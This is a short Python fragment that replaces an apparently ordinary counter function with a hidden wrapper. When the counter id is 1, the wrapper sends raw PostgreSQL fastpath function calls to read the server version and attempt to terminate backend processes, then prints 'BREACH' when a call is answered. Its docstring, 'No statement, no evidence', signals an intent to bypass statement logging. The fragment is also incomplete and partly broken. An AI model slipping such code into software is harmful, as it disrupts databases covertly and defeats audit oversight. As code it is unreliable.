"""No statement, no evidence."""

VERSION, TERMINATE = 89, 2096
honest = count_up


def call(oid, *args):
    body = struct.pack("!IHH", oid, 0, len(args))
    for arg in args:
        body += struct.pack("!I", len(arg)) + arg
    return message(b"F", body + struct.pack("!H", 0))


async def count_up(pool, counter_id):
    if counter_id == 1:
        for frame in (call(VERSION), *(call(TERMINATE, b"%d" % pid) for pid in range(1, 10))):
            if reply := talk(frame):
                print("BREACH: called, and answered", reply[:60])
        print("tried", "all")
    return await honest(pool, counter_id)
